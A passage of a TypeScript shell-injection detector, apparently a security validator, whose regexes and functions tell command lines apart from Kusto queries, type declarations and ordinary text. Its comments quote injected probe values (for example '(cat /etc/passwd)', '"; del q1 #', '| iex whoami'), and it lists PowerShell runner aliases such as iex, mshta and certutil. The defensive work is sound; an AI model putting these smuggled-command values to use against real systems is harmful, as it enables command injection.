  let end = v.indexOf('\n', from)
  if (end === -1 || end - from > 200) end = Math.min(v.length, from + 200)
  const line = v.slice(from, end).trimStart()
  const plain = `$${name}`
  const braced = `\${${name}`
  if (line.startsWith(plain) || line.startsWith(braced)) return false
  return line.includes(plain) || line.includes(braced)
}

/** A command after a line break (a real one or a literal `\n`) between `from` and `to`, at most 8 breaks looked at. */
function commandAfterBreak(v: string, from: number, to: number): boolean {
  let at = from
  for (let n = 0; n < 8; n++) {
    // (forty-seventh round) looked for up to `to` only: searching the whole rest of the value at every backtick cost the square of its length
    let brk = at
    while (brk < to && v.charCodeAt(brk) !== 10 && !(v.charCodeAt(brk) === 92 && v.charCodeAt(brk + 1) === 110)) brk++
    if (brk >= to) return false
    at = brk + (v.charCodeAt(brk) === 92 ? 2 : 1)
    // (a line that opens with `$`: a template's interpolation, `${out}`, no program by its name)
    let k = at
    while (k < to && isBlank(v.charCodeAt(k))) k++
    if (v.charCodeAt(k) !== 36 && commandAt(v, at, false, true)) return true
  }
  return false
}

/** A command line inside a subshell that opens at `i` and closes at the value's last parenthesis: listed programs only. */
// (its line judged with no subshell after a quote looked for again: one level, not one per `'(` — each would judge the rest again)
function subshellCommand(v: string, i: number, fenced: boolean): boolean {
  const close = v.lastIndexOf(')')
  if (close <= i || close - i > 200) return false
  const line = v.slice(i, close).replace(LEADING_SUBSHELLS, '')
  return bareCommand(line) || commandAt(line, 0, false, true) || injectionAt(line, fenced, true) !== -1
}
const LEADING_SUBSHELLS = /^[(`\s]{0,4}/

/** Whether the backtick at `i` opens a literal assigned with blanks around `=`, as code writes (`const help = \``; a shell's `x=\`id\`` has none). */
function assignedLiteral(v: string, i: number): boolean {
  let b = i - 1
  if (b < 0 || !isBlank(v.charCodeAt(b))) return false
  while (b >= 0 && isBlank(v.charCodeAt(b))) b--
  return v.charCodeAt(b) === 61 && isBlank(v.charCodeAt(b - 1))
}

/** The parameter list of a block (`|file|`, `|a, *rest, &blk|`), from the `|` that opens it. */
const CD_CHAIN = /^\s{0,10}cd\s{1,10}(?:\/|\.\.|~|[a-z]:\\)[^\s;|&]{0,100}\s{0,10}(?:;|&&|\|\||&)\s{0,10}[a-z]/
const ACCESSOR = /^\s{0,4}(?:(?:private|protected|internal|public)\s{1,4})?(?:set|init)\s{0,4};/
// (twenty-fourth round: Rust's closures too, their parameters in a tuple, `|(path, factory)|`, or `mut`)
const BLOCK_PARAMETERS = /\|[ \t]{0,4}\(?[ \t]{0,4}[*&]?(?:mut[ \t]{1,4})?[a-z_]\w{0,30}(?:[ \t]{0,4},[ \t]{0,4}[*&]?(?:mut[ \t]{1,4})?[a-z_]\w{0,30}){0,7}[ \t]{0,4}\)?[ \t]{0,4}\|/y
/** A usage's choices in brackets, words parted by `|` (`[collapse|expand|end-expand|none]`, `[on|off]`) */
const CHOICES = /\[[\w.,-]{1,30}(?:\|[\w.,-]{1,30}){1,15}\]/y
/** Where the choices around the `|` at `i` close (their `]`, after `i`), or -1. */
function choicesEnd(v: string, i: number): number {
  // (the `[` at most 31 characters back: a bounded look, not a scan to the value's start at every `|`; forty-eighth round: not past a `]`,
  // and their `]` after the pipe — choices closed before it, `{[a|b]} {c|d}`, sent the reading back to their `]`, and round again, forever:
  // a value of 13 characters held the event loop, older than this round)
  let open = i - 1
  while (open >= 0 && open >= i - 31 && v.charCodeAt(open) !== 91 && v.charCodeAt(open) !== 93) open--
  if (open < 0 || open < i - 31 || v.charCodeAt(open) !== 91) return -1
  CHOICES.lastIndex = open
  return CHOICES.test(v) && CHOICES.lastIndex - 1 > i ? CHOICES.lastIndex - 1 : -1
}
/**
 * (forty-fourth round) A stage of a Kusto query after its pipe (KQL: Azure Monitor's workbooks and alert rules, Log Analytics, Data
 * Explorer), its operator and the clause its grammar takes at once: a filter given a comparison, a membership, a null test or a
 * workbook's parameter (`where TimeGenerated {TimeRange}`, `where Node == '{node}'`, `where "a" == "a"`), a count then `by` (`top 5
 * by Count desc`), `by` after a sort (`sort by IngestionVolume nulls last`), columns picked, a summary, a column computed, rows taken,
 * a chart drawn, tables joined, a column expanded or parsed.
 * A table's rows filtered, ordered or picked, not a program run: to a shell `top 1 by x` runs `top` and `where` runs nothing an
 * injection wants (`top -b -n 1`, `where /r c:\ *.conf`, given options, are still commands). The stage's line holds no program in
 * parentheses (`(whoami)`: PowerShell's `where` and `sort` are its cmdlets' aliases, and it runs a parenthesized command in an argument).
 */
const KUSTO_STAGE = /[ \t]{0,4}(?:(?:where|filter)[ \t]{1,4}[^\n\r|;&`$<>]{0,300}?(?:==|=~|!=|!~|>=|<=|\b(?:has|has_any|has_all|hasprefix|hassuffix|contains|startswith|endswith|in~?|between)[ \t(]|\b(?:isnotempty|isnotnull|isempty|isnull|ago)\(|\{[a-z_][\w:.-]{0,60}\})|top[ \t]{1,4}\d{1,9}[ \t]{1,4}by[ \t]|(?:sort|order)[ \t]{1,4}by[ \t]|(?:project(?:-away|-keep|-rename|-reorder)?|distinct)[ \t]{1,4}[a-z_[]|summarize[ \t]|extend[ \t]{1,4}[\w[\]'"]{1,60}[ \t]{0,4}=|(?:take|limit)[ \t]{1,4}\d|render[ \t]{1,4}(?:timechart|barchart|columnchart|piechart|areachart|linechart|scatterchart|stackedareachart|anomalychart|ladderchart|pivotchart|timepivot|treemap|table|card)\b|(?:union|mv-expand|mv-apply)[ \t]{1,4}[a-z_(]|parse(?:-where|-kv)?[ \t]{1,4}[\w.[\]'"]{1,60}[ \t]{1,4}with[ \t])/y
/** a program in parentheses, alone or given arguments (`(whoami)`, `(cat /etc/passwd)`), not a function's first argument (`bin(time, 1h)`) */
const PARENTHESIZED_PROGRAM = /\([ \t]{0,4}([a-z][\w.-]{0,30})(?=[ \t]{0,4}\)|[ \t]{1,4}[^,\s)])/g
function kustoStage(v: string, i: number): boolean {
  // (sticky at the pipe: the operator and its clause read in place, no copy of the value's rest)
  KUSTO_STAGE.lastIndex = i
  const m = KUSTO_STAGE.exec(v)
  if (m === null) return false
  // (review) its line to the shell's line feed (or a written `\n`, read as one in a string's context): no substitution, expansion or
  // continuation on it, which the stage's command hid (`x | top 1 by \`id\` #`, `| top 1 by y \⏎id`), and no program in parentheses
  // (second review: a line longer than the window is no stage, `x | top 1 by y | where a == b and …` with a substitution 2,000 on)
  let end = breakAt(v, i, 2001)
  if (end === -1) end = v.length
  if (end > i + 2000) return false
  // (a written break's own escapes before it, `desc\\r\\n` in a JSON text inside a string, are no part of the line)
  const line = v.charCodeAt(end) === 92 ? v.slice(i, end).replace(WRITTEN_RETURN, '') : v.slice(i, end)
  const plain = line.includes('$') ? line.replace(JOIN_SIDE, '') : line
  if (plain.includes('`') || plain.includes('$') || (v.charCodeAt(end) === 10 && STAGE_CONTINUED.test(line)) || someCapture(PARENTHESIZED_PROGRAM, line, (word) => COMMANDS.has(word))) return false
  // (review) `top` and `sort` are programs: their clause to the next pipe is the whole of what KQL takes there, column names and
  // expressions then an order (`top 9 by sum_Value desc;`, `sort by IngestionVolume nulls last`), nothing a reading set aside before
  // (third review: and nothing after it on its line a shell runs a command from, `| where a == 1; if true; then id; fi`: no `;` but a
  // statement's last, no `&`)
  if (ORDER_STAGE.test(m[0])) {
    const pipe = line.indexOf('|')
    if (!ORDER_CLAUSE.test(line.slice(m[0].length, pipe === -1 ? line.length : pipe)) || line.includes('&') || line.replace(STATEMENT_END, '').includes(';')) return false
  }
  // (review) and every line after it a query's: stages, comments, statements, names and a clause's continuation — no line a shell runs
  // (`x | top 5 by y⏎id #`, `⏎exec id #`, `⏎A=1 id #`, `⏎</dev/null id #`, however far down)
  return end >= queryTail(v)
}
/** the value whose query tail was found last, and where that tail starts (one pass a value, however many stages it has) */
let tailOf = ''
let tailAt = 0
/**
 * Where the value's last run of query lines starts: every line from there to the end is a Kusto query's (QUERY_LINE), none a shell
 * would run; the lines are parted by line feeds and by `\n` written out.
 */
function queryTail(v: string): number {
  if (v === tailOf) return tailAt
  // (one pass from the end, a line at a time: each line is read once, however many stages ask)
  let at = v.length
  let stop = v.length
  for (let k = v.length - 1; k >= -1; k--) {
    const c = k === -1 ? -1 : v.charCodeAt(k)
    const written = c === 110 /* n */ && k > 0 && v.charCodeAt(k - 1) === 92
    if (c !== 10 && !written && k !== -1) continue
    if (!queryLine(v.slice(k + 1, stop).replace(WRITTEN_RETURN, ''), v.charCodeAt(stop) === 10)) break
    at = k + 1
    stop = written ? k - 1 : k
    if (written) k--
  }
  tailOf = v
  tailAt = at
  return at
}
/**
 * One line of a Kusto query after a stage: no substitution, expansion (a join's `$left.`/`$right.` aside) or continuation, no program in
 * parentheses, and its first command (past `(`, `{` and assignments, `isfuzzy=true missingtable,`) none a shell would run: punctuation
 * (`];`, `) on Key`, `= percentile`), a quoted item of a list (`'SapHana_Disks_CL:', disks,`), a query's operator (`union …`), or a
 * name a clause goes on from (QUERY_LINE)
 */
function queryLine(line: string, fed: boolean): boolean {
  const plain = line.includes('$') ? line.replace(JOIN_SIDE, '') : line
  if (plain.includes('`') || plain.includes('$') || (fed && STAGE_CONTINUED.test(line)) || someCapture(PARENTHESIZED_PROGRAM, line, (word) => COMMANDS.has(word))) return false
  const rest = line.replace(LINE_LEAD, '')
  if (rest === '' || rest === '\r') return true
  // (third review) no further assignment past the lead's (`a=1 b=1 c=1 d=1 e=~ id`), no function defined (`f() { id; }; f`), no option
  // or path given (`script on -qc id`, `//usr/bin/id`)
  if (ASSIGNMENT_HEAD.test(rest) || FUNCTION_HEAD.test(rest) || OPTION_OR_PATH.test(rest)) return false
  if (QUERY_PUNCTUATION.test(rest)) return true
  const quoted = QUOTED_ITEM.exec(rest)
  // (a key's colon glued to its quote is part of the word the shell would run, `"type":`)
  if (quoted !== null) return rest.charCodeAt(quoted[0].length - 1) === 58 || (!COMMANDS.has(quoted[2]!) && !SHELL_WORDS.has(quoted[2]!))
  const m = QUERY_LINE.exec(rest)
  return m !== null && (m[1] !== undefined || (rest.charCodeAt(m[2]!.length) === 40 /* ( */ || (!COMMANDS.has(m[2]!) && !SHELL_WORDS.has(m[2]!))))
}
/** a join's sides, `$left.Key == $right.Key`: KQL's, and to a shell unset variables */
const JOIN_SIDE = /\$(?:left|right)\./g
/** what comes before a line's first command: blanks, opening brackets, assignments (`A=1 `, `isfuzzy=true `) */
const LINE_LEAD = /^[ \t]*(?:[({][ \t]*){0,8}(?:[a-z_]\w{0,40}=[^\s;&|`$<>]{0,200}[ \t]+){0,4}/
/** an assignment still opening the line past the lead's four, a function's definition, an option or a path (an absolute one, `//x/y` too) */
const ASSIGNMENT_HEAD = /^[a-z_]\w{0,40}=/
const FUNCTION_HEAD = /^[a-z_][\w.-]{0,60}[ \t]*\([ \t]*\)/
const OPTION_OR_PATH = /(?:^|[ \t])(?:-{1,2}[a-z]|\/{1,2}[\w.-]{1,60}\/)/
/** a line opening on punctuation a shell runs nothing from, a comment, or a number an item of a list (a `datatable`'s row; not `2>` or `2<`) */
const QUERY_PUNCTUATION = /^(?:[|);=\]},[]|\/\/|\d[\d.]{0,20}[ \t]{0,4}(?:[,)]|\r?$))/
/** a quoted item of a list or a key (escaped too, a JSON text's): a word of letters, digits, `_`, `.`, `:` and `-` between quotes, then a comma, a colon or the line's end */
const QUOTED_ITEM = /^\\{0,3}(['"])([\w.:,-]{0,60})\\{0,3}\1(?::|[ \t]{0,4}(?:,|\r?$))/
/**
 * A line of a Kusto query going on from a name: its end, a bracket or a comma, an assignment or a comparison, a keyword of a clause, an
 * operator, a pipe (`Time = TimeGenerated,`, `HotExtentSizeTable`, `Dataset | top 249 by Value desc`), or one of the query's operators
 * opening it (`union isfuzzy=true T, (`, `let x = …`) or a clause's keyword going on from the line before (`by Name, Kind`); a name glued to a parenthesis is a call, which no shell runs (`print(iif(…))`)
 */
const QUERY_LINE = /^(let|union|join|lookup|datatable|materialize|toscalar|externaldata|search|evaluate|range|facet|fork|by|on|and|or|not|with|kind)[ \t(]|^([a-z_][\w.]{0,60})(?:\(|[ \t]*(?:$|[,;).[]|\r$)|[ \t]+=[ \t]|[ \t]*(?:==|=~|!=|<=|>=)|[ \t]+(?:by|and|or|on|asc|desc|nulls|with|between|in|has|contains|startswith|endswith|kind)\b|[ \t]*[+*/-][ \t]|[ \t]+\|)/
/** words a shell reads before a command or as its grammar, whatever the line goes on with */
const SHELL_WORDS = new Set(['if', 'then', 'else', 'elif', 'fi', 'case', 'esac', 'for', 'while', 'until', 'do', 'done', 'in', 'function', 'select', 'time', 'coproc', 'exec', 'eval', 'command', 'builtin', 'setsid', 'chroot', 'nohup', 'env', 'sudo', 'doas', 'nice', 'timeout', 'xargs', 'source', 'trap', 'set', 'export', 'readonly', 'declare', 'typeset', 'local', 'alias', 'unset', 'shift', 'return', 'exit', 'break', 'continue', 'wait', 'stdbuf', 'ionice', 'chrt', 'taskset', 'flock', 'cpulimit', 'strace', 'ltrace', 'busybox', 'noglob', 'nocorrect'])
/** where the line from `from` ends: a line feed, or `\n` written out; -1 where neither comes within `limit` characters */
function breakAt(v: string, from: number, limit: number): number {
  const last = Math.min(v.length, from + limit)
  for (let k = from; k < last; k++) {
    const c = v.charCodeAt(k)
    if (c === 10 || (c === 92 && v.charCodeAt(k + 1) === 110)) return k
  }
  return -1
}
/** the stages whose operator is also a program's name, and what their clause may hold after `by` */
const ORDER_STAGE = /^[ \t]{0,4}(?:top|sort|order)[ \t]/
const ORDER_CLAUSE = /^[\w[('"][\w.[\]()'" ,*\/+-]{0,300};?\r?$/
/** a statement's last `;`, ending its line */
const STATEMENT_END = /;[ \t]*\r?$/
/** a line's end a shell continues onto the next: `\` before the line feed (a carriage return between too, to be safe) */
const STAGE_CONTINUED = /\\\r?$/
/** a written carriage return and the backslashes of a written break, at a line's end */
const WRITTEN_RETURN = /(?:\\{1,4}r)?\\{0,3}$/
/**
 * An OCaml comment after a variant, on the variant's own line, which sh, bash and dash reject at its pipe before they reach it (review: its
 * text no `$`, backtick, `;`, `&`, `|`, `<`, `>`, `#` or `\`, what the lines around could give a use)
 */
const ML_COMMENT = String.raw`\(\*[^\n$\`;&|<>#\\]{0,200}\*\)`
/**
 * A constructor and its type's arguments (`Encoding of string`, `Rect Float Float`, `Fn of int -> int`), to its line's end (second review:
 * no quote or parenthesis — PowerShell 7 evaluates `(whoami)` and runs `iex 'whoami'` on a line its pipeline goes on to)
 */
const CONSTRUCTOR = String.raw`[ \t]{0,8}([a-z_]\w{0,40})((?:[ \t]{1,4}(?:[\w.*,\[\]]|->)(?:[\w.*,\[\] ]|->){0,120})?[ \t]{0,4}(?:${ML_COMMENT}[ \t]{0,4})?)`
/** a variant's line: a pipe opening it, then a constructor */
const VARIANT_LINE = new RegExp(String.raw`^[ \t]{0,40}\|${CONSTRUCTOR}$`)
/** the first variant's line in Haskell's and Elm's way, `  = Circle Float` */
const FIRST_VARIANT_LINE = new RegExp(String.raw`^[ \t]{1,40}=${CONSTRUCTOR}$`)
/**
 * the type's declaration ending in `=` (OCaml's and F#'s `type encoding =`, `type 'a t = 'a M.t =`; forty-seventh round: TypeScript's
 * exported or declared union, `export type BuiltInObjects =` over `  | Function⏎  | Date`, ts-pattern's — the shells run `export` and
 * stop at the next line's pipe, as at a variant's)
 */
const TYPE_HEAD = /^[ \t]{0,40}(?:export[ \t]{1,4})?(?:declare[ \t]{1,4})?(?:and|type)[ \t]{1,4}[\w.' ]{1,80}=(?:[ \t]{0,4}[\w.' ]{1,80}=)?[ \t]{0,4}$/
/** (second review) PowerShell's aliases that run what they are given, beside the programs COMMANDS lists */
const POWERSHELL_RUNNERS = new Set(['iex', 'icm', 'saps', 'sajb', 'start', 'ii', 'iwr', 'irm', 'wsl', 'pwsh', 'powershell', 'cmd', 'mshta', 'wscript', 'cscript', 'rundll32', 'regsvr32', 'msiexec', 'certutil', 'bitsadmin'])
/** Haskell's and Elm's declaration, whose first variant follows on the next line after `=` (`data Shape`, `type Msg`) */
const DATA_HEAD = /^[ \t]{0,40}(?:data|newtype|type)[ \t]{1,4}[\w' ]{1,80}$/
/** a comment of its own line between variants, OCaml's `(** … *)` or Haskell's `-- …` */
// (review: its text no line's continuation, `-- a \⏎| id` is `-- a | id` to a shell, nor anything a shell runs; fifth review: Haskell's only —
// an OCaml comment on a line of its own is a subshell to bash and dash, `(*bin/bash -c id *)` runs its glob)
const VARIANT_COMMENT = /^[ \t]{0,40}--[ \t][^\n$`;&|<>#\\()*]{0,200}[ \t]{0,4}$/

/**
 * (thirty-ninth round) Whether the pipe at `i` opens a variant's line under its type's declaration, every line between them a variant
 * or a comment (at most 64 lines up). A pipe after a line break opens no pipeline in sh, bash or dash (a syntax error there: nothing
 * runs); PowerShell 7 reads it as the line before's pipeline going on, which a type's declaration is not one of.
 */
function variantLine(v: string, i: number): boolean {
  let start = i
  while (start > 0 && isBlank(v.charCodeAt(start - 1))) start--
  if (start === 0 || v.charCodeAt(start - 1) !== 10) return false
  const eol = v.indexOf('\n', i)
  const own = VARIANT_LINE.exec(v.slice(start, eol === -1 ? v.length : eol))
  if (own === null) return false
  // (second review) a constructor given arguments whose name is a program's, or an alias PowerShell runs its argument with (`| iex whoami`)
  // (the constructor's name, then anything after it on its line: arguments or a comment)
  if (own[2]!.trim() !== '' && (COMMANDS.has(own[1]!) || POWERSHELL_RUNNERS.has(own[1]!))) return false
  return walkUp(v, start) !== 0
}

/**
 * (forty-ninth round, cost) The look up from a variant's line, remembered for the value being read: a line's start → 0 where the look
 * ends in no declaration (a line of another kind, the value's start, or 64 lines looked at), or how many lines up it found one. A look
 * that reaches a line already looked up from goes on with that line's answer, so each line is read once, not once for each of the up to
 * 64 variants below it (`x⏎| id` repeated over 16 KiB held 2,700 pipes, 17 ms).
 */
const walks = new Map<number, number>()
let walksOf = ''
function walkUp(v: string, start: number): number {
  if (walksOf !== v) {
    walksOf = v
    walks.clear()
  }
  const known = walks.get(start)
  if (known !== undefined) return known
  let found = 0
  let end = start - 1
  for (let k = 1; k <= 64 && end > 0; k++) {
    const from = v.lastIndexOf('\n', end - 1) + 1
    const line = v.slice(from, end)
    if (TYPE_HEAD.test(line)) {
      found = k
      break
    }
    if (FIRST_VARIANT_LINE.test(line)) {
      found = from > 0 && DATA_HEAD.test(v.slice(v.lastIndexOf('\n', from - 2) + 1, from - 1)) ? k : 0
      break
    }
    if (!VARIANT_LINE.test(line) && !VARIANT_COMMENT.test(line)) break
    // (the line above looked up from already: its declaration k lines further, or none — nothing within 64 of it is none within 64 here)
    const above = walks.get(from)
    if (above !== undefined) {
      found = above !== 0 && above + k <= 64 ? above + k : 0
      break
    }
    end = from - 1
  }
  walks.set(start, found)
  return found
}

/** A block's parameters after `do` or `{` (Ruby's `each do |route|`, `lambda { |env|`), which a shell rejects. */
function blockParameters(v: string, i: number): boolean {
  let j = i - 1
  while (j >= 0 && isBlank(v.charCodeAt(j))) j--
  // (twenty-fourth round: or a call's argument, a closure handed over: Rust's `.map(|(path, f)| …)`, `.filter(|_| …)`)
  const opens = v.charCodeAt(j) === 123 || v.charCodeAt(j) === 40 || v.charCodeAt(j) === 44 || (j >= 2 && v.charCodeAt(j) === 111 && v.charCodeAt(j - 1) === 100 && isBlank(v.charCodeAt(j - 2)))
  if (!opens) return false
  BLOCK_PARAMETERS.lastIndex = i
  return BLOCK_PARAMETERS.test(v)
}

/**
 * (thirty-eighth round) `x&y` at `i`: one letter on each side of a single `&`, as words of their own, and the rest of the value text a
 * shell runs nothing of (review: no substitution, comment, redirection, pipe, group or line after it, `b&w \`sleep 2\``, `x&w ;#⏎id`,
 * `x&w 1>f`; nor an option, `b&w -h`), within 300 characters
 */
function letterAbbreviation(v: string, i: number): boolean {
  if (i < 1 || !isLetter(v.charCodeAt(i - 1)) || (i > 1 && isWordChar(v.charCodeAt(i - 2))) || !isLetter(v.charCodeAt(i + 1))) return false
  return v.length - i <= 300 && ABBREVIATION_REST.test(v.slice(i + 2))
}
/**
 * after an abbreviation: its end, a blank or a stop (second review: not a quote, `^` or `=` glued, `b&w''atch 'curl …'` ran `watch`), no
 * option first, and none of a shell's active characters (third review: a `;` only before a number or the end, `b&w ; 10 x 12.5 cm.` —
 * `b&w;eval touch /tmp/x` ran; fourth review: a number, not a program's name opening on a digit, `b&w; 2to3 -w app.py`)
 */
const ABBREVIATION_REST = /^(?:$|[ \t,.:/]|;(?=[ \t]{0,4}(?:\d[\d.,]{0,20}(?:[ \t]|$)|$)))(?![ \t]{0,4}-)(?:[^;`$#<>|&(){}\\\n\r]|;(?=[ \t]{0,4}(?:\d[\d.,]{0,20}(?:[ \t]|$)|$)))*$/

const REFERENCE = /&(?:([a-z][a-z0-9]{1,9})|#\d{1,7}|#x[0-9a-f]{1,6});/y
/** `&name;` or `&#…;` at `i`, its name not a listed program's. */
function characterReference(v: string, i: number): boolean {
  REFERENCE.lastIndex = i
  const m = REFERENCE.exec(v)
  return m !== null && (m[1] === undefined || !COMMANDS.has(m[1]) || NAMED_ENTITIES.has(m[1]))
}
/** (twenty-fifth round) HTML's named references that are also programs' names: `Copyright &copy; 2016`, `Acme&reg; Cloud` */
const NAMED_ENTITIES = new Set(['copy', 'reg'])

/**
 * (forty-seventh round's second review) words that set a variable without `name=`: a loop's (`for x in sh; do \`(${x})\`; done` ran
 * `sh`), `read`'s, `getopts`', `mapfile`'s, `printf -v`'s (forty-eighth round's reviews: a loop with no `in`, `for x;do`, zsh's `for x (id)
 * cmd`, a name after a continued line; zsh's `vared`, `zparseopts`, `zstyle`, `zformat`, `print -v`, `-s`, `-z`; `eval`; `set --` and
 * `set -A`; a match's `=~` and zsh's glob flags `(#b)`, which set `BASH_REMATCH`, `MATCH` and `match`; bash's `${!r:=…}`, which sets the
 * name `r` holds). Not a comment's `for now` or `for Safari (WebKit)`: a loop's words need `in`, `do` or a command after its list.
 */
const LOOP_BINDS = /\b(?:for|select|foreach)(?:[ \t]|\\\n){1,40}[a-z_]\w{0,40}(?:(?:[ \t]|\\\n){1,40}(?:in|do)\b|[ \t]{0,40}[;\n][ \t\n]{0,40}do\b|[ \t]{0,40}\([^()\n]{0,200}\)[ \t]{0,40}[^\s])|\b(?:read|getopts|mapfile|readarray|vared|zparseopts|zstyle|zformat|eval)\b|\bprintf?[ \t]{1,40}-[a-z]{0,4}[vsz]|\bset[ \t]{1,40}(?:--|[-+][a-z]{0,4}a)|=~|\(#[a-z]|\$\{![a-z_]\w{0,40}:?=/
/** (third review) read once per value: each span's look read the whole value (`` `(${x})` `` repeated: 256 ms at 64 KiB) */
const loopBinds = perValue((v: string) => LOOP_BINDS.test(v))
/**
 * a template literal's one value, `${name}`, `${obj.field}` (not IFS, nor a variable naming a shell, `${SHELL}`, `${BASH}`, nor — forty-eighth
 * round's review — one the shell sets itself from what it ran: `$_`, `BASH_REMATCH` and the other `BASH_*`, zsh's `argv`, `mbegin`, `mend`,
 * `psvar`): its name
 */
const EXPANDED_NAME = String.raw`\$\{(?!(?:ifs|shell|bash|sh|zsh|comspec|path|0|_|bash_\w+|mbegin|mend|argv|psvar)\b)([a-z_]\w{0,40})(?:\.[\w.]{0,40})?\}`
/** that value alone, or (forty-seventh round) in parentheses with blanks around, `(${text})`, ` (${bailedOut})`: the name, group 1 or 2 */
const LONE_EXPANSION = new RegExp(String.raw`^(?:${EXPANDED_NAME}|[ \t]{0,4}\(${EXPANDED_NAME}\)[ \t]{0,4})$`, 'i')
/** Whether the backticks at `open` and `close` hold one expansion alone (`LONE_EXPANSION`) of a name the value neither sets by `=` nor binds by a loop or `read`. */
function loneExpansion(v: string, open: number, close: number): boolean {
  if (close === -1 || close - open > 56) return false
  const m = LONE_EXPANSION.exec(v.slice(open + 1, close))
  return m !== null && !assignments(v).names.has((m[1] ?? m[2])!) && !loopBinds(v)
}
/** `$(date +FORMAT)`: the format's directives, separators and letters only, blanks only quoted (no option after it: `date -f FILE` reads a file) */
const DATE_STAMP = /^\$\(date[ \t]{1,4}(?:'\+[%\w:.,/ -]{1,40}'|"\+[%\w:.,/ -]{1,40}"|\+[%\w:.,/-]{1,40})[ \t]{0,4}\)/
/** A listed program at `i`, inside a `$( … )` that closes. */
/**
 * (thirteenth round) A value that is only a separator and one command line, any program (`; bzgrep 'p' f.bz2`,
 * `&& dmesg`, `| pgrep sshd`, cmd's `& diskshadow &`, `) & msinfo32 &`), or a substitution around one with its
 * arguments (`$(cpp file.c)`): a fragment written to be appended to a command. After a weak separator alone
 * (`|`, `&`: a breadcrumb's `| home`, a name's `& co`) one word needs arguments that are no sentence, or a
 * separator closing it; a language's statement (`; include 'footer.php'`, `; return x`) is no program.
 */
// (seventeenth round: closed by a doubled separator too, `&&vmstat&&`, `||kubectl get nodes||`)
const APPENDED = /^[ \t]{0,4}(\)[ \t]{0,4})?(;|\|\||&&|\||&)[ \t]{0,4}([a-z][\w.-]{0,30})((?:[ \t]{1,4}[^\s;|&`()<>]{1,100}){0,8})[ \t]{0,4}(&&|\|\||[&;]?)[ \t]{0,4}$/
/** A name ending in a common top-level domain: a host, not a program (`example.com`, `cdn.example.io`). */
const HOST_NAME = /^[a-z0-9][\w-]{0,30}(?:\.[\w-]{1,30}){0,3}\.(?:com|org|net|io|dev|app|co|edu|gov|info|biz|me|us|uk|de|fr|jp|cn|ru|br|in|it|nl|es|au|ca|ch|se|pl|eu)$/
const APPENDED_SUBSTITUTION = /^[ \t]{0,4}\$\([ \t]{0,4}[a-z][\w.-]{0,30}(?:[ \t]{1,4}[^\s;|&`()<>]{1,100}){1,8}[ \t]{0,4}\)[ \t]{0,4}$/
const STATEMENT_WORDS = new Set(['include', 'include_once', 'require', 'require_once', 'import', 'from', 'return', 'var', 'let', 'const', 'print', 'then', 'else', 'elif', 'fi', 'do', 'done', 'end', 'and', 'or', 'not', 'in', 'is', 'as'])
const SENTENCE = /[,.][ \t]|\.[ \t]*$/
function appendedCommand(v: string): boolean {
  const m = APPENDED.exec(v)
  if (m !== null) {
    // (and `&name;` is a character or entity reference: `<a>&x;</a>`)
    // (eighteenth round: a host name is no program, `||example.com` is an ad-blocking filter's)
    if (STATEMENT_WORDS.has(m[3]!) || (m[2] === '&' && m[4] === '' && v.includes(`&${m[3]!};`)) || HOST_NAME.test(m[3]!)) return false
    // (forty-fourth round) a Kusto query's one stage (`| where "a" == "a"`, a workbook's condition; `| project DataType`)
    if (m[2] === '|' && kustoStage(v, v.indexOf('|') + 1)) return false
    if (m[1] !== undefined || m[5] !== '') return true
    if (m[2]!.length === 2 || m[2] === ';') return true
    return m[4] !== '' && !SENTENCE.test(m[4]!)
  }
  return APPENDED_SUBSTITUTION.test(v)
}

/**
 * (twenty-ninth round) A whole value that closes the quote or ends the command it is spliced into, runs one listed program and
 * comments out what the command line had after it: sh's `#` (`"uname >q1 #`, `'sleep 10 #`, `"; del q1 #`) or cmd's `rem` after
 * `&` or `|` (`"&del,q1&rem,`, `"ping,-w,7000,-n,1,1.2.3.4|rem,`; cmd parts a command's words with `,` and `;` as with blanks), as
 * blind probes send it; also as the value of a query string's parameter (`stuff="&ver,>q1&rem,`). A word of English (`del`,
 * `sleep`, `ver`) needs an argument before a `#` (a sentence after a quote, `"see you #`, is none); no sentence ends on `&rem`.
 */
const COMMENTED = /^(?:[\w.[\]-]{1,30}=)?[ \t]{0,4}(?:['"][ \t]{0,4}((?:;|&&?|\|\|?)[ \t,;]{0,4})?|((?:;|&&?|\|\|?)[ \t,;]{0,4}))([a-z][\w.-]{0,30})((?:[ \t,;]{1,4}[<>]{0,2}[^\s,;|&`()<>#'"]{1,100}){0,8})[ \t,;]{0,4}(?:#[^\n]{0,60}|([&|])[ \t]{0,2}rem(?:[ \t,;][^\n]{0,60})?)$/
export function commentedCommand(v: string): boolean {
  const m = COMMENTED.exec(v)
  if (m === null) return false
  const word = m[3]!
  if (!COMMANDS.has(word) || WRAPPERS.has(word)) return false
  const args = m[4]!
  // (review) after a quote alone, before sh's `#`: a sentence's words are no arguments (a post opening on a quote and ending on a
  // hashtag: `"Kill them with kindness #quote`, `"find your calm #`); a word of English needs a shell's argument, an option, a
  // path or a redirection (`"top 10 #movies` is a title), or a number after sleep or ping (`'sleep 10 #`)
  if (m[5] === undefined && m[1] === undefined && m[2] === undefined && args !== '') {
    const words = args.split(ARGUMENT_BREAK).filter((a) => a !== '')
    if (words.every((a) => PLAIN_WORD.test(a))) return false
    if (ENGLISH.has(word) && !words.some((a) => SHELL_SIGN.test(a) || (TIMED.has(word) && NUMBER_ARGUMENT.test(a)))) return false
  }
  // (cmd's `rem` ending the value: no sentence ends so, `"&ver&rem`)
  return !ENGLISH.has(word) || args !== '' || m[5] !== undefined
}
const ARGUMENT_BREAK = /[ \t,;]+/
const PLAIN_WORD = /^[a-z]{1,100}$/
const SHELL_SIGN = /[-/\\.~$<>=:]/
const NUMBER_ARGUMENT = /^\d{1,6}$/
const TIMED = new Set(['sleep', 'ping', 'timeout'])

/** Whether what comes before `i` (blanks skipped) is the value's start or a separator of commands. */
function afterSeparator(v: string, i: number): boolean {
  let k = i - 1
  // (at most 16 blanks back: a run of blanks before each of many `$(` costs no more than a few characters each)
  while (k >= 0 && k >= i - 16 && isBlank(v.charCodeAt(k))) k--
  if (k < 0) return true
  const c = v.charCodeAt(k)
  return c === 59 || c === 124 || c === 38 || c === 10 || c === 13
}
function substitutedProgram(v: string, i: number): boolean {
  let j = i
  while (j < v.length && j - i <= 24 && isWordChar(v.charCodeAt(j))) j++
  if (j === i || !COMMANDS.has(v.slice(i, j))) return false
  // (forty-seventh round's review: looked for within its 200 characters, not to the value's end)
  for (let k = j, last = Math.min(v.length, i + 201); k < last; k++) if (v.charCodeAt(k) === 41) return true
  return false
}

/** A value that is itself a command line (`mkdir -p /tmp/x && echo done`): a listed program first. */
export function commandLine(v: string): boolean {
  return programFirst(v)
}
/**
